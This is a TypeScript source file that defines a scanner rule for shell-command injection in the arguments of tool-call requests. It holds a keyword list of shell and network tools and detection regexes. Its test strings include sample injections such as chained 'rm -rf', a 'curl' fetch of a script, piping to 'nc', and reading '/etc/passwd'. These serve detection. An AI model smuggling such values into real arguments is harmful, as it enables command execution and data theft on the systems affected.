import { matchAt } from '../../define.js';
import type { Detector, Match } from '../../detector.js';
import { proseKeys } from './arg-path-traversal.detector.js';

const commands =
  'cat|ls|id|whoami|uname|curl|wget|nc|ncat|bash|sh|zsh|python3?|perl|ruby|php|node|rm|mv|cp|chmod|chown|kill|ping|nslookup|dig|sleep|env|printenv|echo|touch|base64|powershell|cmd|certutil|tftp|ssh|scp|telnet|mkfifo|head|tail|find|grep|awk|sed|xargs|tee|dd|ifconfig|ip|netstat|ps|crontab|reboot|shutdown|type|dir|net|reg|calc(?:\\.exe)?|open|osascript|printf|sudo|su|export|source|eval|exec|kubectl|docker|aws|gcloud|az|git|npm|npx|pip';
const path = '(?:/(?:usr/)?s?bin/)?';
/** A separator and the command that it leads to; the command is followed by an argument, another separator or the end. */
const chained = new RegExp(
  `(?:;|\\|\\||&&|\\||&|%0a|\\n)[ \\t]{0,4}${path}(?:${commands})(?=\\s{1,4}[-/~.$\\w'"|<>\\\\{]|\\s{0,4}[;|&#<>]|\\s{0,4}$)`,
  'iy',
);
const substituted = new RegExp(
  `(?:\\$\\(|\`|<\\(|>\\()[ \\t]{0,4}${path}(?:${commands})(?=[ \\t$<{/)\`;|-])[^)\`\\n]{0,160}[)\`]`,
  'iy',
);
const braced = /\$(?:\{IFS\}|IFS\b|\{PATH:|\{HOME:)/y;
const redirected = />{1,2}[ \t]{0,3}(?:\/etc\/|\/tmp\/|\/dev\/tcp\/|~\/\.|\/var\/|\/root\/|\/proc\/)[\w./-]{1,80}/y;

const quoted = /\s{1,3}["']?$/;

function verifyChained(text: string, start: number): Match | undefined {
  const found = matchAt(chained, text, start);
  if (found === undefined || isWithin(text, start)) return undefined;
  const confidence = threatOf(text, start, found);
  return confidence < 0.3 ? undefined : { start, end: start + found.length, confidence };
}

/** Words with signs between them are also found in tables of markdown, entities of HTML and queries of URLs. */
function isWithin(text: string, start: number): boolean {
  if (text.charAt(start) === ';') return /&#?\w{1,10}$/.test(text.slice(Math.max(0, start - 11), start));
  if (text.charAt(start) === '&')
    return (
      text.charAt(start - 1) !== '&' &&
      /[?&][\w.[\]%-]{1,60}=?[^\s&]{0,120}$/.test(text.slice(Math.max(0, start - 180), start))
    );
  if (text.charAt(start) === '|' && text.charAt(start + 1) !== '|')
    return /^\s{0,3}$|\|[^|\n]{0,80}$/.test(lineBefore(text, start));
  return text.charAt(start - 1) === text.charAt(start);
}

function lineBefore(text: string, start: number): string {
  const before = text.slice(Math.max(0, start - 120), start);
  return before.slice(before.lastIndexOf('\n') + 1);
}

function isLongText(text: string): boolean {
  return text.length > 300 || text.includes('\n');
}

/** In a line that is a command itself, a chain is ordinary; after a name, a path or a number it is not. */
function threatOf(text: string, start: number, found: string): number {
  const line = lineBefore(text, start);
  const isLong = isLongText(text);
  const isWord = !/\s/.test(line.trim());
  const isGrave = /curl|wget|\bnc\b|bash|\bsh\b|rm\b|base64|powershell|whoami|\bid\b|\/etc|passwd/i.test(
    found + text.slice(start, start + 60),
  );
  return (isGrave ? 0.6 : 0.45) + (isWord ? 0.2 : 0) - (isLong ? 0.25 : 0) - (quoted.test(line) && isLong ? 0.1 : 0);
}

function verifySubstituted(text: string, start: number): Match | undefined {
  const found = matchAt(substituted, text, start);
  if (found === undefined) return undefined;
  const isLong = isLongText(text);
  // A command in backticks within a sentence is how one writes about it.
  const isProse =
    found.startsWith('`') && /(?:^|[\s("'[])$/.test(text.slice(0, start).slice(-1)) && text.length > found.length + 20;
  const confidence = 0.7 - (isLong ? 0.25 : 0) - (isProse ? 0.45 : 0);
  return confidence < 0.3 ? undefined : { start, end: start + found.length, confidence };
}

function verifyBy(pattern: RegExp, confidence: number) {
  return (text: string, start: number): Match | undefined => {
    const found = matchAt(pattern, text, start);
    if (found === undefined) return undefined;
    return { start, end: start + found.length, confidence: confidence - (isLongText(text) ? 0.3 : 0) };
  };
}

/**
 * Commands of a shell chained to or put into an argument that is a name, a path or a number. CWE-78; OWASP MCP05. Code and
 * prose, in keys that say so or in several lines, are doubtful only.
 */
export const argShellMetaDetector: Detector = {
  id: 'mcp.arg.shell_meta',
  kind: 'threat',
  title: 'Argument: chained command',
  description: 'Arguments to which a command of a shell is chained.',
  label: 'chained command',
  parts: ['request'],
  context: {
    against: [
      ...proseKeys,
      'command',
      'cmd',
      'shell',
      'bash',
      'run',
      'args',
      'query',
      'sql',
      'pipeline',
      'expression',
      'regex',
      'pattern',
      'template',
    ],
  },
  finders: [
    { literals: [';', '|', '&', '%0a'], verify: verifyChained },
    { literals: ['$(', '`', '<(', '>('], verify: verifySubstituted },
    { literals: ['$ifs', '${ifs', '${path:', '${home:'], verify: verifyBy(braced, 0.75) },
    { literals: ['>/', '> /', '>~', '> ~'], verify: verifyBy(redirected, 0.6) },
  ],
  examples: {
    found: [
      'main«; rm» -rf /tmp/x',
      'example.com «&& curl» http://example.org/x.sh',
      'a.txt «| nc» example.org 4444',
      'image«$(whoami)».png',
      'x«`id`»',
      '8.8.8.8«;cat» /etc/passwd',
      'name«${IFS}»x',
      'log «> /etc/cron.d/x»',
    ],
    clean: [
      'Tom & Jerry; cats and dogs',
      'R&D | Sales | Marketing',
      'https://example.com/?a=1&id=5&sh=2',
      '| cat | dog |',
      'AT&amp;T &lt;b&gt;',
      'costs $5 (five)',
      'Run `npm test` before you push the branch to the server.',
      'a > b; c < d',
      'key=value; path=/; secure',
      'x || y',
    ],
    worst: [';', ';cat', '; cat ', '$(', '$(cat ', '`id ', '&& curl '],
  },
};
